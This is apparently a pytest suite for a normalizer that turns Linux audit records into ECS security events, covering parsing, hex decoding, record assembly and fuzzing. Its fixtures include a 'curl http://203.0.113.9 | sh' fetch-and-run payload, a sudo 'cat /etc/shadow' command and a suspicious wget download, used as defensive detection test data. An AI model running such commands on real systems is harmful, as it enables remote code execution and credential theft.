"""Linux audit records -> ECS: record parsing in every transport, hex decoding, and the pure merge of
the records of one serial (SYSCALL + EXECVE + CWD + PATH + PROCTITLE + SOCKADDR) into one event."""

from __future__ import annotations

import copy
import random
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from normalizers import normalize
from normalizers.record import RawRecord
from normalizers.schema import validate_event
from normalizers.sources import auditd_vocabulary, kernel_firewall, linux_accounts, linux_auth, linux_system, sshd
from normalizers.sources.auditd import assemble_audit_event, parse_audit_record, refine_audit_text

RECEIVED = datetime(2026, 11, 20, 12, 0, 0, tzinfo=UTC)


def hexed(text: str) -> str:
    return text.encode().hex().upper()


# One `wget` run as audit.log writes it (auditd 3.x, RAW format).
WGET = [
    "type=SYSCALL msg=audit(1700000000.123:4567): arch=c000003e syscall=59 success=yes exit=0 a0=55e0b3c8a0a0 "
    "a1=55e0b3c8a120 a2=55e0b3c89e70 a3=8 items=2 ppid=2411 pid=2456 auid=1000 uid=1000 gid=1000 euid=1000 "
    'suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="wget" exe="/usr/bin/wget" '
    'subj=unconfined key="susp_download"',
    'type=EXECVE msg=audit(1700000000.123:4567): argc=4 a0="wget" a1="-q" a2="-O" a3=' + hexed("/tmp/my file.sh"),
    'type=CWD msg=audit(1700000000.123:4567): cwd="/home/alice"',
    'type=PATH msg=audit(1700000000.123:4567): item=0 name="/usr/bin/wget" inode=1234 dev=08:01 mode=0100755 ouid=0 '
    "ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
    'type=PATH msg=audit(1700000000.123:4567): item=1 name="/lib64/ld-linux-x86-64.so.2" inode=5678 dev=08:01 '
    "mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
    "type=PROCTITLE msg=audit(1700000000.123:4567): proctitle="
    + "00".join(hexed(arg) for arg in ("wget", "-q", "-O", "/tmp/my file.sh")),
    "type=EOE msg=audit(1700000000.123:4567): ",
]


def from_file(text: str, position: int = 1) -> dict[str, Any]:
    ev = normalize(RawRecord(text, RECEIVED, "/var/log/audit/audit.log", "file", "auto", position))
    assert validate_event(ev) == [], text
    return ev


def assembled(lines: list[str]) -> dict[str, Any]:
    events = [from_file(text, i) for i, text in enumerate(lines, 1)]
    ev = assemble_audit_event(events)
    assert validate_event(ev) == []
    return ev


# --- single records ------------------------------------------------------------------------------


def test_raw_audit_log_line_gets_its_own_time_and_no_parse_failure() -> None:
    ev = from_file(WGET[0])
    assert "tags" not in ev
    assert ev["@timestamp"] == "2023-11-14T22:13:20.123Z"
    assert ev["event"]["dataset"] == "auditd.log"
    assert ev["event"]["action"] == "executed"
    assert ev["event"]["outcome"] == "success"
    assert ev["auditd"]["sequence"] == 4567
    assert ev["auditd"]["message_type"] == "SYSCALL"
    assert ev["auditd"]["key"] == "susp_download"
    assert ev["auditd"]["data"]["syscall"] == "execve"
    assert ev["auditd"]["data"]["arch"] == "x86_64"
    assert ev["auditd"]["data"]["a0"] == "55e0b3c8a0a0"
    assert ev["process"] == {"pid": 2456, "parent": {"pid": 2411}, "name": "wget", "executable": "/usr/bin/wget"}
    assert ev["user"] == {"id": "1000", "effective": {"id": "1000"}, "audit": {"id": "1000"}}
    assert ev["event"]["original"] == WGET[0]


def test_hex_encoded_values_are_decoded() -> None:
    execve = parse_audit_record(WGET[1])
    assert execve is not None
    assert execve.fields["a3"] == "/tmp/my file.sh"
    title = parse_audit_record(WGET[5])
    assert title is not None and title.fields["proctitle"] == "wget -q -O /tmp/my file.sh"
    assert parse_audit_record("type=PATH msg=audit(1.0:1): item=0 name=(null) nametype=UNKNOWN").fields["name"] == (
        "(null)"
    )


def test_enriched_fields_name_users_and_the_syscall() -> None:
    line = (
        "type=SYSCALL msg=audit(1700000100.000:5001): arch=c00000b7 syscall=221 success=no exit=-13 a0=1 a1=2 a2=3 "
        "a3=0 items=1 ppid=1 pid=900 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 "
        'tty=(none) ses=4294967295 comm="sh" exe="/usr/bin/dash" key=(null)'
        '\x1dARCH=aarch64 SYSCALL=execve AUID="unset" UID="root" GID="root" EUID="root"'
    )
    ev = from_file(line)
    assert ev["auditd"]["data"]["syscall"] == "execve"
    assert ev["event"]["outcome"] == "failure"
    assert ev["user"] == {"id": "0", "name": "root", "effective": {"id": "0", "name": "root"}}
    assert ev["group"] == {"id": "0", "name": "root"}
    assert "key" not in ev["auditd"]  # key=(null)


def test_syscall_numbers_are_named_per_architecture() -> None:
    arm = from_file("type=SYSCALL msg=audit(1700000100.000:1): arch=c00000b7 syscall=203 success=yes exit=0 pid=1")
    assert (arm["auditd"]["data"]["syscall"], arm["event"]["action"]) == ("connect", "connected-to")
    unknown = from_file("type=SYSCALL msg=audit(1700000100.000:2): arch=c000003e syscall=999 success=yes pid=1")
    assert (unknown["auditd"]["data"]["syscall"], unknown["event"]["action"]) == ("999", "called-syscall")


def test_audispd_syslog_line_with_node() -> None:
    ev = normalize(RawRecord(
        "Nov 20 10:00:00 web-01 audispd: node=web-01 type=USER_AUTH msg=audit(1700000200.500:7001): pid=4242 uid=0 "
        "auid=4294967295 ses=4294967295 subj=unconfined msg='op=PAM:authentication grantors=? acct=\"root\" "
        "exe=\"/usr/sbin/sshd\" hostname=203.0.113.66 addr=203.0.113.66 terminal=ssh res=failed'",
        RECEIVED, "10.0.0.5:514", "syslog-udp", "syslog", 1,
    ))  # fmt: skip
    assert validate_event(ev) == []
    assert ev["event"]["action"] == "authenticated"
    assert ev["event"]["outcome"] == "failure"
    assert ev["event"]["category"] == ["authentication"]
    assert ev["user"] == {"name": "root"}  # the account, not sshd's uid 0
    assert ev["source"] == {"address": "203.0.113.66", "ip": "203.0.113.66"}
    assert ev["process"] == {"pid": 4242, "executable": "/usr/sbin/sshd", "name": "sshd"}
    assert ev["auditd"]["node"] == "web-01"
    assert ev["host"]["name"] == "web-01"
    assert ev["log"]["syslog"]["appname"] == "audispd"  # the forwarder stays visible in log.syslog


def test_audisp_syslog_with_rsyslog_escaped_enrichment() -> None:
    ev = normalize(RawRecord(
        "Nov 20 10:00:00 web-01 audisp-syslog: type=USER_LOGIN msg=audit(1700000300.000:7100): pid=5000 uid=0 "
        "auid=1000 ses=7 msg='op=login id=1000 exe=\"/usr/sbin/sshd\" hostname=? addr=192.0.2.40 terminal=/dev/pts/1 "
        "res=success'#035UID=\"root\" AUID=\"alice\" ID=\"alice\"",
        RECEIVED, "/var/log/syslog",
    ))  # fmt: skip
    assert ev["event"]["action"] == "logged-in"
    assert ev["event"]["category"] == ["authentication", "session"]
    assert ev["user"]["id"] == "1000"
    assert ev["user"]["audit"] == {"id": "1000", "name": "alice"}
    assert ev["source"] == {"address": "192.0.2.40", "ip": "192.0.2.40"}


def test_journald_form_without_serial() -> None:
    ev = normalize(RawRecord(
        "Nov 20 10:00:00 web-01 audit[5012]: USER_END pid=5012 uid=0 auid=1000 ses=7 msg='op=PAM:session_close "
        "grantors=pam_loginuid,pam_env acct=\"alice\" exe=\"/usr/sbin/sshd\" hostname=192.0.2.40 addr=192.0.2.40 "
        "terminal=ssh res=success'",
        RECEIVED, "/var/log/syslog",
    ))  # fmt: skip
    assert ev["event"]["action"] == "ended-session"
    assert ev["@timestamp"] == "2026-11-20T10:00:00.000Z"  # no audit(...) stamp: the syslog time stays
    assert "sequence" not in ev["auditd"]
    assert ev["user"]["name"] == "alice"


@pytest.mark.parametrize(
    ("line", "action", "target", "group"),
    [
        ("type=ADD_USER msg=audit(1700000400.000:800): pid=3001 uid=0 auid=1000 ses=3 msg='op=add-user id=1005 "
         "exe=\"/usr/sbin/useradd\" hostname=? addr=? terminal=pts/0 res=success'", "added-user-account",
         {"id": "1005"}, None),
        ("type=DEL_USER msg=audit(1700000400.000:801): pid=3002 uid=0 auid=1000 ses=3 msg='op=delete-user "
         "acct=\"deploy\" exe=\"/usr/sbin/userdel\" hostname=? addr=? terminal=pts/0 res=success'",
         "deleted-user-account", {"name": "deploy"}, None),
        ("type=ADD_GROUP msg=audit(1700000400.000:802): pid=3003 uid=0 auid=1000 ses=3 msg='op=add-group acct=\"devs\" "
         "exe=\"/usr/sbin/groupadd\" hostname=? addr=? terminal=pts/0 res=success'", "added-group-account", None,
         {"name": "devs"}),
    ],
)  # fmt: skip
def test_account_records_name_the_account_acted_upon(
    line: str, action: str, target: dict[str, str] | None, group: dict[str, str] | None
) -> None:
    ev = from_file(line)
    assert ev["event"]["action"] == action
    assert ev["event"]["category"] == ["iam"]
    assert ev["user"].get("target") == target
    assert ev.get("group") == group
    assert ev["user"]["audit"] == {"id": "1000"}  # who did it


def test_user_cmd_decodes_the_command() -> None:
    ev = from_file(
        'type=USER_CMD msg=audit(1700000500.000:900): pid=6000 uid=1000 auid=1000 ses=3 msg=\'cwd="/home/alice" '
        f'cmd={hexed("cat /etc/shadow")} exe="/usr/bin/sudo" terminal=pts/0 res=success\''
    )
    assert ev["event"]["action"] == "ran-command"
    assert ev["auditd"]["data"]["cmd"] == "cat /etc/shadow"
    assert ev["process"]["working_directory"] == "/home/alice"
    assert ev["user"]["id"] == "1000"


def test_kernel_apparmor_and_selinux_denials() -> None:
    apparmor = normalize(RawRecord(
        'Nov 20 10:00:00 web-01 kernel: [ 8812.113214] audit: type=1400 audit(1700000600.100:45): apparmor="DENIED" '
        'operation="open" profile="/usr/sbin/cupsd" name="/etc/shadow" pid=812 comm="cupsd" requested_mask="r" '
        'denied_mask="r" fsuid=0 ouid=0', RECEIVED, "/var/log/kern.log",
    ))  # fmt: skip
    assert apparmor["event"]["dataset"] == "auditd.log"
    assert apparmor["event"]["action"] == "violated-apparmor-policy"
    assert apparmor["event"]["type"] == ["denied"]
    assert apparmor["file"] == {"path": "/etc/shadow", "name": "shadow"}
    assert apparmor["process"] == {"pid": 812, "name": "cupsd"}
    selinux = from_file(
        'type=AVC msg=audit(1700000600.200:46): avc:  denied  { read } for  pid=1201 comm="httpd" name="passwd" '
        'dev="dm-0" ino=4321 scontext=system_u:system_r:httpd_t:s0 tcontext=system_u:object_r:passwd_file_t:s0 '
        "tclass=file permissive=0"
    )
    assert selinux["event"]["action"] == "violated-selinux-policy"
    assert selinux["auditd"]["data"]["seperms"] == "read"
    assert selinux["process"]["name"] == "httpd"


def test_lines_that_are_not_audit_records() -> None:
    event: dict[str, Any] = {"message": "type=foo but no audit stamp", "event": {}}
    assert refine_audit_text(event, event["message"]) is False
    assert event == {"message": "type=foo but no audit stamp", "event": {}}
    daemon = normalize(RawRecord("Nov 20 10:00:00 web-01 auditd[500]: Audit daemon rotating log files", RECEIVED))
    assert daemon["event"]["dataset"] == "syslog"


# --- assembly ------------------------------------------------------------------------------------


def test_execve_event_assembled_from_its_records() -> None:
    ev = assembled(WGET)
    assert ev["event"]["action"] == "executed"
    assert ev["event"]["category"] == ["process"]
    assert ev["event"]["type"] == ["start"]
    assert ev["@timestamp"] == "2023-11-14T22:13:20.123Z"
    assert ev["process"] == {
        "pid": 2456,
        "parent": {"pid": 2411},
        "name": "wget",
        "executable": "/usr/bin/wget",
        "args": ["wget", "-q", "-O", "/tmp/my file.sh"],
        "args_count": 4,
        "command_line": "wget -q -O /tmp/my file.sh",
        "working_directory": "/home/alice",
        "title": "wget -q -O /tmp/my file.sh",
    }
    assert ev["auditd"]["execve"] == {"argc": 4, "a0": "wget", "a1": "-q", "a2": "-O", "a3": "/tmp/my file.sh"}
    assert ev["auditd"]["record_types"] == ["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE"]
    assert [p["name"] for p in ev["auditd"]["paths"]] == ["/usr/bin/wget", "/lib64/ld-linux-x86-64.so.2"]
    assert "file" not in ev  # the executable is process.executable
    assert ev["event"]["original"] == "\n".join(WGET)
    first = from_file(WGET[0], 1)
    assert ev["event"]["id"] == first["event"]["id"]
    assert ev["log"] == {"file": {"path": "/var/log/audit/audit.log"}}


def test_assembly_is_pure_and_independent_of_record_order() -> None:
    events = [from_file(text, i) for i, text in enumerate(WGET, 1)]
    snapshot = copy.deepcopy(events)
    reference = assemble_audit_event(events)
    assert events == snapshot  # inputs untouched
    shuffled = events[1:]
    random.Random(7).shuffle(shuffled)
    other = assemble_audit_event([events[0], *shuffled])
    for key in ("process", "auditd", "user", "group", "@timestamp"):
        if key == "auditd":
            assert {k: v for k, v in other[key].items() if k != "record_types"} == {
                k: v for k, v in reference[key].items() if k != "record_types"
            }
        else:
            assert other[key] == reference[key]


def test_long_arguments_split_across_chunks_are_joined() -> None:
    payload = "A" * 30 + " ; curl http://203.0.113.9 | sh"
    half = len(payload) // 2
    lines = [
        "type=SYSCALL msg=audit(1700000700.000:1200): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 "
        'uid=0 comm="bash" exe="/usr/bin/bash"',
        f'type=EXECVE msg=audit(1700000700.000:1200): argc=3 a0="bash" a1="-c" a2_len={len(payload)} '
        f"a2[0]={hexed(payload[:half])}",
        f"type=EXECVE msg=audit(1700000700.000:1200): a2[1]={hexed(payload[half:])}",
    ]
    ev = assembled(lines)
    assert ev["process"]["args"] == ["bash", "-c", payload]


def test_file_syscall_resolves_relative_path_against_cwd() -> None:
    ev = assembled([
        'type=SYSCALL msg=audit(1700000800.000:1300): arch=c000003e syscall=82 success=yes exit=0 items=4 ppid=1 '
        'pid=3 uid=0 comm="mv" exe="/usr/bin/mv" key="shadow_change"',
        'type=CWD msg=audit(1700000800.000:1300): cwd="/etc"',
        'type=PATH msg=audit(1700000800.000:1300): item=0 name="/etc" inode=2 nametype=PARENT',
        'type=PATH msg=audit(1700000800.000:1300): item=1 name="/etc" inode=2 nametype=PARENT',
        'type=PATH msg=audit(1700000800.000:1300): item=2 name="shadow.new" inode=77 mode=0100640 ouid=0 ogid=42 '
        'nametype=DELETE',
        'type=PATH msg=audit(1700000800.000:1300): item=3 name="shadow" inode=77 mode=0100640 ouid=0 ogid=42 '
        'nametype=CREATE',
    ])  # fmt: skip
    assert ev["event"]["action"] == "renamed"
    assert ev["event"]["category"] == ["file"]
    assert ev["file"] == {"path": "/etc/shadow", "name": "shadow", "inode": "77", "mode": "0100640", "uid": "0",
                          "gid": "42"}  # fmt: skip
    assert ev["auditd"]["key"] == "shadow_change"


def test_connect_syscall_gives_the_destination() -> None:
    saddr = "0200" + (443).to_bytes(2, "big").hex() + bytes([203, 0, 113, 10]).hex() + "00" * 8
    ev = assembled([
        'type=SYSCALL msg=audit(1700000900.000:1400): arch=c000003e syscall=42 success=yes exit=0 ppid=1 pid=4 '
        'uid=33 comm="php" exe="/usr/bin/php8.2"',
        f"type=SOCKADDR msg=audit(1700000900.000:1400): saddr={saddr.upper()}",
    ])  # fmt: skip
    assert ev["event"]["action"] == "connected-to"
    assert ev["destination"] == {"address": "203.0.113.10", "ip": "203.0.113.10", "port": 443}
    ipv6 = "0A00" + "0050" + "00000000" + bytes.fromhex("20010db8000000000000000000000001").hex() + "00000000"
    ev6 = assembled([
        'type=SYSCALL msg=audit(1700000900.000:1401): arch=c000003e syscall=43 success=yes exit=5 pid=5 comm="nc"',
        f"type=SOCKADDR msg=audit(1700000900.000:1401): saddr={ipv6.upper()}",
    ])  # fmt: skip
    assert ev6["event"]["action"] == "accepted-connection-from"
    assert ev6["source"] == {"address": "2001:db8::1", "ip": "2001:db8::1", "port": 80}


def test_assembling_nothing_is_an_error() -> None:
    with pytest.raises(ValueError, match="at least one record"):
        assemble_audit_event([])


# --- fuzzing -------------------------------------------------------------------------------------

_PARTS = ["type=SYSCALL", "type=EXECVE", "type=PATH", "type=1400", "msg=audit(1700000000.1:5):", "audit(9:9):",
          "argc=99999", "a0=", "a1=ZZ", "a2=414", "name=2F", "saddr=0200", "saddr=0A00FFFF", "saddr=01000041",
          "msg='", "'", '"', "acct=", "addr=1.2.3.4", "arch=c000003e", "syscall=59", "success=yes", "pid=-1",
          "\x1d", "#035", "UID=", "node=x", "a0[0]=41", "a0_len=5", "item=x", "cwd=", "proctitle=00"]  # fmt: skip
_RECORDS = st.one_of(st.text(max_size=300), st.lists(st.sampled_from(_PARTS), max_size=30).map(" ".join))


@settings(max_examples=500, deadline=None)
@given(_RECORDS)
def test_refine_never_raises_and_leaves_non_records_untouched(text: str) -> None:
    event: dict[str, Any] = {"message": text, "event": {"kind": "event", "dataset": "syslog"}}
    before = copy.deepcopy(event)
    if refine_audit_text(event, text):
        assert validate_event({"@timestamp": "2026-01-01T00:00:00.000Z", **event}) == []
    else:
        assert event == before


@settings(max_examples=200, deadline=None)
@given(st.lists(_RECORDS, min_size=1, max_size=6))
def test_assembling_arbitrary_records_never_raises(texts: list[str]) -> None:
    events = [from_file("type=SYSCALL msg=audit(1700000000.000:1): " + t.replace("\n", " "), i)
              for i, t in enumerate(texts)]  # fmt: skip
    assert validate_event(assemble_audit_event(events)) == []


def test_oversized_and_truncated_records() -> None:
    huge = 'type=EXECVE msg=audit(1700000000.000:1): argc=2 a0="x" a1=' + "41" * 20_000
    assert from_file(huge)["event"]["dataset"] == "auditd.log"
    too_big = "type=EXECVE msg=audit(1700000000.000:1): a0=" + "41" * 40_000
    assert "tags" in from_file(too_big)  # over the record limit: kept raw as a parse failure
    cut = from_file('type=SYSCALL msg=audit(1700000000.000:1): arch=c000003e syscall=59 comm="wg')
    assert cut["event"]["action"] == "executed"
    assert cut["process"]["name"] == '"wg'


# --- vocabulary ----------------------------------------------------------------------------------

ECS_CATEGORIES = {"agent", "api", "authentication", "configuration", "database", "driver", "email", "file", "host",
                  "iam", "intrusion_detection", "library", "malware", "network", "package", "process", "registry",
                  "session", "threat", "vulnerability", "web"}  # fmt: skip
ECS_TYPES = {"access", "admin", "allowed", "change", "connection", "creation", "deletion", "denied", "end", "error",
             "group", "indicator", "info", "installation", "protocol", "start", "user"}  # fmt: skip


def test_every_linux_action_uses_ecs_allowed_categories_and_types() -> None:
    tables = [sshd.ACTIONS, linux_auth.ACTIONS, linux_accounts.ACTIONS, linux_system.ACTIONS, kernel_firewall.ACTIONS]
    pairs = [pair for table in tables for pair in table.values()]
    pairs += [(c, t) for _, c, t in auditd_vocabulary.SYSCALL_ACTIONS.values()]
    pairs += [(c, t) for _, c, t in auditd_vocabulary.RECORD_ACTIONS.values()]
    for categories, types in pairs:
        assert set(categories) <= ECS_CATEGORIES, categories
        assert set(types) <= ECS_TYPES, types


def test_a_character_split_between_two_argument_chunks_stays_whole() -> None:
    arg = "tệp-đính-kèm.sh"  # multi-byte UTF-8
    raw = arg.encode().hex().upper()
    cut = 9  # bytes 8-9 are "í": the cut falls inside it
    lines = [
        'type=SYSCALL msg=audit(1700000700.000:1201): arch=c000003e syscall=59 success=yes pid=2 comm="sh"',
        f'type=EXECVE msg=audit(1700000700.000:1201): argc=2 a0="sh" a1_len={len(raw) // 2} a1[0]={raw[: cut * 2]}',
        f"type=EXECVE msg=audit(1700000700.000:1201): a1[1]={raw[cut * 2 :]}",
    ]
    assert assembled(lines)["process"]["args"] == ["sh", arg]
